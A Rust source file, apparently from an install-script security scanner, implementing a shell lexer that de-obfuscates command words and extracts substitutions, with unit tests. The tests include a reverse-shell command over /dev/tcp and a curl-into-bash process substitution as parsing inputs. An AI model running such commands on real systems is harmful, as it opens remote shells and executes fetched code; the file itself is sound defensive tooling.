//! A small, forgiving lexer for the POSIX-shell commands of install scripts.
//!
//! It splits a command line into simple commands (on `&&`, `||`, `;`, `|`, `|&`, `&`,
//! newlines and subshell parentheses, outside quotes and substitutions) and each simple
//! command into words, removing quotes and backslash escapes the way a shell would, so
//! `c\url`, `c"u"rl` and `'wget'` all read `curl`. Command substitutions (`$(…)`,
//! backticks) and process substitutions (`<(…)`, `>(…)`) are kept whole inside their
//! word and reported separately so that their bodies can be analysed as commands.
//!
//! The input is hostile: every loop is linear in the input, nesting is tracked with an
//! explicit stack rather than recursion, and unterminated quotes or substitutions simply
//! run to the end of the text.

/// What follows a simple command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Separator {
    /// `;`, `&&`, `||`, newline, parentheses.
    Sequence,
    /// `|` or `|&`: the next segment reads this one's output.
    Pipe,
    /// A lone `&`: this segment runs in the background.
    Background,
    End,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum SubstitutionKind {
    /// `$(…)` or a backtick pair: the output becomes part of the command line.
    Command,
    /// `<(…)`: the output is readable as a file.
    ProcessInput,
    /// `>(…)`: what is written to the file becomes the body's input.
    ProcessOutput,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Substitution<'a> {
    pub kind: SubstitutionKind,
    pub body: &'a str,
}

/// One word of a simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Word {
    /// The word as the program receives it: quotes and backslash escapes removed.
    pub text: String,
    /// Quotes removed but backslashes kept, for Windows paths (`C:\tools\curl.exe`).
    pub raw: String,
    /// The word is an unquoted process substitution: its kind and body.
    pub process: Option<(SubstitutionKind, String)>,
}

impl AsRef<str> for Word {
    fn as_ref(&self) -> &str {
        &self.text
    }
}

#[derive(Debug)]
pub(crate) struct Segment<'a> {
    /// The simple command as written (trimmed).
    pub text: &'a str,
    pub words: Vec<Word>,
    pub then: Separator,
}

#[derive(Debug, Default)]
pub(crate) struct Parsed<'a> {
    pub segments: Vec<Segment<'a>>,
    /// Substitutions at this level, in order (nested ones are found by parsing a body).
    pub substitutions: Vec<Substitution<'a>>,
}

/// Split a command line into simple commands and words.
pub(crate) fn parse(command: &str) -> Parsed<'_> {
    Lexer {
        command,
        bytes: command.as_bytes(),
        parsed: Parsed::default(),
        words: Vec::new(),
        word: WordBuf::default(),
        segment_start: 0,
    }
    .run()
}

#[derive(Default)]
struct WordBuf {
    text: Vec<u8>,
    raw: Vec<u8>,
    active: bool,
    process: Option<(SubstitutionKind, String)>,
}

impl WordBuf {
    fn push(&mut self, bytes: &[u8]) {
        self.text.extend_from_slice(bytes);
        self.raw.extend_from_slice(bytes);
        self.active = true;
    }

    fn take(&mut self) -> Option<Word> {
        if !self.active {
            return None;
        }
        let word = std::mem::take(self);
        Some(Word {
            text: String::from_utf8_lossy(&word.text).into_owned(),
            raw: String::from_utf8_lossy(&word.raw).into_owned(),
            process: word.process,
        })
    }
}

struct Lexer<'a> {
    command: &'a str,
    bytes: &'a [u8],
    parsed: Parsed<'a>,
    words: Vec<Word>,
    word: WordBuf,
    segment_start: usize,
}

impl<'a> Lexer<'a> {
    fn run(mut self) -> Parsed<'a> {
        let bytes = self.bytes;
        let mut i = 0;
        while i < bytes.len() {
            let byte = bytes[i];
            let next = bytes.get(i + 1).copied();
            match byte {
                b' ' | b'\t' | b'\r' => {
                    self.end_word();
                    i += 1;
                }
                b'\'' => {
                    let end = find_byte(bytes, i + 1, b'\'');
                    self.word.push(&bytes[i + 1..end]);
                    i = end + 1;
                }
                b'"' => i = self.double_quoted(i + 1),
                b'\\' => {
                    match next {
                        // A line continuation.
                        Some(b'\n') => {}
                        Some(escaped) => {
                            self.word.text.push(escaped);
                            self.word.raw.extend_from_slice(&[b'\\', escaped]);
                            self.word.active = true;
                        }
                        None => self.word.push(b"\\"),
                    }
                    i += 2;
                }
                b'$' if next == Some(b'(') => {
                    i = self.substitution(i, i + 2, SubstitutionKind::Command);
                }
                b'`' => i = self.substitution(i, i + 1, SubstitutionKind::Command),
                b'<' | b'>' if next == Some(b'(') => {
                    let kind = if byte == b'<' {
                        SubstitutionKind::ProcessInput
                    } else {
                        SubstitutionKind::ProcessOutput
                    };
                    let starts_word = !self.word.active;
                    let end = self.substitution(i, i + 2, kind);
                    if starts_word && let Some(last) = self.parsed.substitutions.last() {
                        self.word.process = Some((kind, last.body.to_string()));
                    }
                    i = end;
                }
                b'(' | b')' => {
                    self.end_segment(i, Separator::Sequence);
                    i += 1;
                    self.segment_start = i;
                }
                b'&' if next == Some(b'&') => i = self.separator(i, 2, Separator::Sequence),
                // `>&`, `<&`, `&>` are redirections, not separators.
                b'&' if (i > 0 && matches!(bytes[i - 1], b'>' | b'<')) || next == Some(b'>') => {
                    self.word.push(b"&");
                    i += 1;
                }
                b'&' => i = self.separator(i, 1, Separator::Background),
                b'|' if next == Some(b'|') => i = self.separator(i, 2, Separator::Sequence),
                b'|' if next == Some(b'&') => i = self.separator(i, 2, Separator::Pipe),
                b'|' => i = self.separator(i, 1, Separator::Pipe),
                b';' | b'\n' => i = self.separator(i, 1, Separator::Sequence),
                _ => {
                    self.word.push(&bytes[i..i + 1]);
                    i += 1;
                }
            }
        }
        self.end_segment(bytes.len(), Separator::End);
        self.parsed
    }

    fn end_word(&mut self) {
        if let Some(word) = self.word.take() {
            self.words.push(word);
        }
    }

    fn separator(&mut self, at: usize, width: usize, then: Separator) -> usize {
        self.end_segment(at, then);
        self.segment_start = at + width;
        at + width
    }

    fn end_segment(&mut self, end: usize, then: Separator) {
        self.end_word();
        let text = self
            .command
            .get(self.segment_start.min(end)..end)
            .unwrap_or("")
            .trim();
        let words = std::mem::take(&mut self.words);
        if !words.is_empty() {
            self.parsed.segments.push(Segment { text, words, then });
        } else if then == Separator::Background
            && let Some(last) = self.parsed.segments.last_mut()
        {
            // `a & ;` or a stray `&` after an empty segment: background the previous one.
            last.then = then;
        }
    }

    /// A substitution starting at `start` whose body starts at `body_start`: record it,
    /// keep its text in the current word and return the index after it.
    fn substitution(&mut self, start: usize, body_start: usize, kind: SubstitutionKind) -> usize {
        let backtick = self.bytes[start] == b'`';
        let close = find_close(self.bytes, body_start, backtick);
        let body = self.command.get(body_start..close).unwrap_or("");
        self.parsed.substitutions.push(Substitution { kind, body });
        let end = (close + 1).min(self.bytes.len());
        self.word.push(&self.bytes[start..end]);
        end
    }

    /// The inside of a double-quoted string starting at `i`; returns the index after the
    /// closing quote.
    fn double_quoted(&mut self, mut i: usize) -> usize {
        let bytes = self.bytes;
        self.word.active = true;
        while i < bytes.len() {
            match bytes[i] {
                b'"' => return i + 1,
                b'\\' => {
                    match bytes.get(i + 1).copied() {
                        Some(b'\n') => {}
                        Some(escaped @ (b'$' | b'`' | b'"' | b'\\')) => {
                            self.word.text.push(escaped);
                            self.word.raw.extend_from_slice(&[b'\\', escaped]);
                        }
                        Some(other) => self.word.push(&[b'\\', other]),
                        None => self.word.push(b"\\"),
                    }
                    i += 2;
                }
                b'$' if bytes.get(i + 1) == Some(&b'(') => {
                    i = self.substitution(i, i + 2, SubstitutionKind::Command);
                }
                b'`' => i = self.substitution(i, i + 1, SubstitutionKind::Command),
                _ => {
                    self.word.push(&bytes[i..i + 1]);
                    i += 1;
                }
            }
        }
        bytes.len()
    }
}

fn find_byte(bytes: &[u8], from: usize, needle: u8) -> usize {
    bytes
        .get(from..)
        .and_then(|rest| rest.iter().position(|&b| b == needle))
        .map_or(bytes.len(), |offset| from + offset)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Frame {
    Paren,
    DoubleQuote,
    Backtick,
}

/// The index of the `)` (or backtick) that closes a substitution whose body starts at
/// `start`, honouring quotes and nested substitutions; `bytes.len()` when unterminated.
fn find_close(bytes: &[u8], start: usize, backtick: bool) -> usize {
    let mut stack = vec![if backtick {
        Frame::Backtick
    } else {
        Frame::Paren
    }];
    let mut i = start;
    while i < bytes.len() {
        let Some(&top) = stack.last() else {
            break;
        };
        let byte = bytes[i];
        let next = bytes.get(i + 1).copied();
        match (top, byte) {
            (_, b'\\') => {
                i += 2;
                continue;
            }
            (Frame::Paren, b'\'') => {
                i = find_byte(bytes, i + 1, b'\'');
            }
            (Frame::Paren | Frame::Backtick, b'"') => stack.push(Frame::DoubleQuote),
            (Frame::DoubleQuote, b'"') | (Frame::Paren, b')') | (Frame::Backtick, b'`') => {
                stack.pop();
                if stack.is_empty() {
                    return i;
                }
            }
            (Frame::Paren | Frame::DoubleQuote, b'$') if next == Some(b'(') => {
                stack.push(Frame::Paren);
                i += 1;
            }
            (Frame::Paren, b'(') => stack.push(Frame::Paren),
            (Frame::Paren | Frame::DoubleQuote, b'`') => stack.push(Frame::Backtick),
            _ => {}
        }
        i += 1;
    }
    bytes.len()
}

/// The commands of one line of shell, batch or PowerShell, split roughly (the byte-level
/// pass reads lines of any of them, where the lexer above reads POSIX install scripts),
/// each as its words with the program first (variable assignments and wrappers such as
/// `sudo` skipped, the program's directory and quotes removed). Pipes, lists, subshells
/// and `$(…)` substitutions separate commands.
pub(crate) fn shell_commands(line: &str) -> Vec<Vec<&str>> {
    const WRAPPERS: &[&str] = &[
        "sudo", "exec", "command", "nohup", "time", "then", "do", "else", "if", "elif", "while",
        "until", "!", "@", "call", "start", "/b",
    ];
    // `${NAME}` is one word; other braces group commands.
    let mut in_variable = false;
    let mut previous = ' ';
    line.split(|c: char| {
        let opens_variable = c == '{' && previous == '$';
        previous = c;
        if opens_variable {
            in_variable = true;
            return false;
        }
        if in_variable {
            in_variable = c != '}';
            return false;
        }
        matches!(c, '|' | ';' | '&' | '(' | ')' | '`' | '{' | '}')
    })
    .filter_map(|segment| {
        let words: Vec<&str> = segment
            .split_whitespace()
            .map(|w| w.trim_matches(['"', '\'']))
            .filter(|w| !w.is_empty() && *w != "@")
            .skip_while(|w| {
                WRAPPERS.contains(&w.to_ascii_lowercase().as_str())
                    || w.split_once('=').is_some_and(|(name, _)| {
                        !name.is_empty()
                            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    })
            })
            .collect();
        let (program, args) = words.split_first()?;
        // `@echo off`: batch's `@` only hides the command.
        let program = program.trim_start_matches('@');
        let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
        let mut command = vec![program];
        command.extend(args);
        Some(command)
    })
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(command: &str) -> Vec<Vec<String>> {
        parse(command)
            .segments
            .into_iter()
            .map(|s| s.words.into_iter().map(|w| w.text).collect())
            .collect()
    }

    #[test]
    fn quotes_and_escapes_are_removed() {
        assert_eq!(words(r#"c\url 'w'get c"u"rl"#), [["curl", "wget", "curl"]]);
        assert_eq!(words(r#"echo "a \"b\" \x""#), [["echo", r#"a "b" \x"#]]);
        assert_eq!(words("a\\\nb"), [["ab"]]);
    }

    #[test]
    fn separators_outside_quotes_and_substitutions() {
        let parsed = parse("a $(b | c) 'd|e' && f | g & h");
        let texts: Vec<(&str, Separator)> =
            parsed.segments.iter().map(|s| (s.text, s.then)).collect();
        assert_eq!(
            texts,
            [
                ("a $(b | c) 'd|e'", Separator::Sequence),
                ("f", Separator::Pipe),
                ("g", Separator::Background),
                ("h", Separator::End),
            ]
        );
        assert_eq!(parsed.substitutions[0].body, "b | c");
        assert_eq!(
            words("bash -i >& /dev/tcp/x/1 0>&1 2>&1"),
            [["bash", "-i", ">&", "/dev/tcp/x/1", "0>&1", "2>&1"]]
        );
    }

    #[test]
    fn process_substitutions_are_words_and_bodies() {
        let parsed = parse("bash <(curl -s x | gunzip) >(tee log)");
        let args = &parsed.segments[0].words;
        assert_eq!(args.len(), 3);
        assert_eq!(
            args[1].process,
            Some((SubstitutionKind::ProcessInput, "curl -s x | gunzip".into()))
        );
        assert_eq!(
            args[2].process,
            Some((SubstitutionKind::ProcessOutput, "tee log".into()))
        );
        // Inside double quotes `<(` is plain text.
        assert!(parse(r#"echo "<(x)""#).substitutions.is_empty());
    }

    #[test]
    fn nested_and_quoted_substitutions() {
        let parsed = parse(r#"echo "$(a "$(b ')')" `c`)" done"#);
        assert_eq!(parsed.substitutions.len(), 1);
        assert_eq!(parsed.substitutions[0].body, r#"a "$(b ')')" `c`"#);
        assert_eq!(parsed.segments.len(), 1);
    }

    #[test]
    fn hostile_input_is_linear_and_does_not_panic() {
        for text in ["$(", "`", "$((((", "'", "\"", "\\", "<(", "é&ü|(", "$(\"`'"] {
            let _ = parse(text);
        }
        let deep = "$(".repeat(50_000);
        assert_eq!(parse(&deep).substitutions.len(), 1);
    }
}
